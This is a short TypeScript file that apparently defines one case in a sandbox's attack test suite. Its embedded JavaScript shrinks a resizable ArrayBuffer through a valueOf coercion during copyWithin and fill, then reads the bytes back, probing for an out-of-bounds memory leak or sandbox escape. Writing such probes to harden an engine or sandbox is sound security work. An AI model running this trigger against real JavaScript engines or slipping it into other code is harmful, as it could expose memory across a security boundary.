import { attack } from '../attack.ts';

/** The buffer is shrunk by the conversion of an argument of `copyWithin` and `fill`. */
export const escape = attack({
	grants: [],
	source: `
		const buffer = new ArrayBuffer(4096, { maxByteLength: 4096 });
		const bytes = new Uint8Array(buffer);
		const shrink = (to) => ({ valueOf() { buffer.resize?.(to); return 0; } });
		try { bytes.copyWithin(shrink(8), 16, 4096); } catch {}
		try { bytes.fill(shrink(4), 0, 4096); } catch {}
		buffer.resize?.(4096);
		return String.fromCharCode(...bytes);
	`,
});
